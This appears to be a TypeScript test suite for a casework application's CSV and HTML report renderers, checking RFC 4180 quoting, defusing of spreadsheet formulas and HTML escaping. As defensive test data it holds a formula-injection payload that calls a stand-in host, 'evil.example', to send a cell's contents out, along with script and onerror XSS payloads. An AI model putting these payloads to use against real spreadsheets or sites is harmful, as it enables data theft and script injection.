/** Reports as CSV and HTML: RFC 4180 quoting, escaping of everything a case supplies, no external assets. */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { expect } from 'chai';
import fc from 'fast-check';
import { computeCaseReport } from '../../reports/case-report';
import { portfolioReport } from '../../store/portfolio';
import { caseReportCsv, csvField, portfolioCsv } from '../../reports/render-csv';
import { caseReportHtml } from '../../reports/render-html-case';
import { portfolioHtml } from '../../reports/render-html-portfolio';
import { openDb } from '../../store/db';
import { handledCase } from '../fixtures/reports';

describe('report rendering', () => {
  const report = computeCaseReport(handledCase(), []);

  it('quotes CSV fields by RFC 4180 and defuses formulas', () => {
    expect(csvField('plain')).to.equal('plain');
    expect(csvField('a,b')).to.equal('"a,b"');
    expect(csvField('say "hi"')).to.equal('"say ""hi"""');
    expect(csvField('two\nlines')).to.equal('"two\nlines"');
    expect(csvField('=SUM(A1:A9)')).to.equal("'=SUM(A1:A9)");
    expect(csvField(-3)).to.equal('-3');
    expect(csvField(null)).to.equal('');
  });

  it('defuses a formula wherever a spreadsheet could find one: after ; or , or whitespace, not only at the start', () => {
    for (const title of ['x;=HYPERLINK("http://evil.example/?"&A1)', ' =1+1', 'a, @SUM(1)', 'note\t=cmd', 'x\r+1', 'a -2+3', 'a;-1']) {
      expect(csvField(title), JSON.stringify(title)).to.match(/^"?'/);
    }
    for (const safe of ['2026-05-31T14:30:00Z', 'hr-grievance v1', 'a=b', 'e-mail', 'x+y']) expect(csvField(safe), safe).to.equal(safe);
    // Whatever the text, no piece a spreadsheet splits off at ; , or whitespace starts a formula unless the cell is defused.
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('a', '1', ' ', ';', ',', '=', '+', '-', '@', '\t', '\r', '"') }), (text) => {
        const field = csvField(text);
        const cell = field.startsWith('"') ? field.slice(1, -1).replace(/""/g, '"') : field;
        const defused = cell.startsWith("'");
        return defused || cell.split(/[;,\s]/).every((piece) => !/^[=+\-@\t\r]/.test(piece));
      }),
      { numRuns: 2000 },
    );
    const lines = caseReportCsv({ ...report, title: 'x;=HYPERLINK("http://evil.example/")', evaluation: { note: ' =1+1' } }).split('\r\n');
    expect(lines).to.include(`metric,title,"'x;=HYPERLINK(""http://evil.example/"")",,`);
    expect(lines).to.include("evaluation,note,' =1+1,,");
  });

  it('writes the case report as a metrics section and a phase section under one header', () => {
    const lines = caseReportCsv({ ...report, title: 'Smith, "J"' }).split('\r\n');
    expect(lines[0]).to.equal('section,name,value,share,visits');
    expect(lines).to.include('metric,title,"Smith, ""J""",,');
    expect(lines).to.include('metric,cycle_hours,336,,');
    expect(lines).to.include('metric,deadlines_missed,1,,');
    expect(lines).to.include('evaluation,outcome,"housed, with ""support""",,');
    expect(lines).to.include('phase,implementation,192,0.5714,2');
    expect(lines[lines.length - 1]).to.equal('');
  });

  it('writes the portfolio with percentiles on the cycle-time rows', async () => {
    const csv = portfolioCsv({
      filter: { definition: 'x' },
      cases: 1,
      byPhase: { closed: 1 },
      byRisk: {},
      byStatus: { closed: 1 },
      outcomes: {},
      reported: 1,
      cycleTime: { overall: { cases: 1, p50: 3, p90: 3 }, byPhase: [{ phase: 'screening', cases: 1, p50: 3, p90: 3 }] },
      deadlines: { met: 1, missed: 0, breachRate: 0 },
      followUps: { done: 0, onTime: 0, compliance: null },
      satisfaction: { responses: 0, average: null },
      cost: { cases: 0, total: 0, average: null },
    });
    expect(csv.split('\r\n')).to.include.members(['section,name,value,p50_hours,p90_hours', 'cycle_time,screening,1,3,3', 'metric,follow_up_compliance,,,']);
  });

  it('escapes a script in the title and in evaluation values of the HTML page', () => {
    const html = caseReportHtml({ ...report, title: '<script>alert(1)</script>', evaluation: { remark: '<img src=x onerror="alert(2)">' } });
    expect(html).not.to.include('<script');
    expect(html).not.to.include('<img');
    expect(html).to.include('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).to.include('&lt;img src=x onerror=&quot;alert(2)&quot;&gt;');
    expect(html).to.include('<svg');
    expect(html).not.to.match(/<link|src="http|href="http/);
  });

  it('renders the portfolio page with its charts and no external assets', async () => {
    const html = portfolioHtml({ ...(await emptyPortfolio()), filter: { definition: '"><b>x</b>' } });
    expect(html).to.include('&quot;&gt;&lt;b&gt;x&lt;/b&gt;');
    expect(html).not.to.include('<b>x');
    expect(html).to.include('<svg');
    expect(html).not.to.match(/<script|<link|src="http|href="http/);
  });
});

async function emptyPortfolio() {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'casework-reports-'));
  const db = await openDb({ dataDir: dir });
  try {
    return await portfolioReport(db, {});
  } finally {
    await db.destroy();
    fs.rmSync(dir, { recursive: true, force: true });
  }
}
